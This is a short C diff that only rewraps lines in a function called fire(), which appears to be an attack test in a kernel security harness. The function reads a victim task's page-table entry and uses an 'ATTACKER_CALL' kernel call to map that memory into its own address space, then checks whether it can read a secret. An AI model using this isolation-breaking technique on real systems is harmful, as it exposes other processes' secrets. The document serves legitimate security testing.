@@ -23,9 +23,11 @@ static char memory[4096] __attribute__((aligned(4096)));
 static bool fire(void)
 {
 	const uint64_t task = own_task(), other = victim_task(task);
-	const uint64_t frame = peek(table_entry(own_root(other), (uint64_t)memory, 1)) & ENTRY_ADDRESS;
+	const uint64_t frame =
+		peek(table_entry(own_root(other), (uint64_t)memory, 1)) & ENTRY_ADDRESS;
 
-	call_kernel(ATTACKER_CALL, symbol("mmu_user_map"), own_root(task), 0x500000000000, frame, 0x8b);
+	call_kernel(ATTACKER_CALL, symbol("mmu_user_map"), own_root(task), 0x500000000000, frame,
+		    0x8b);
 	return bytes_equal((const char *)0x500000000000, SECRET, sizeof(SECRET));
 }
 
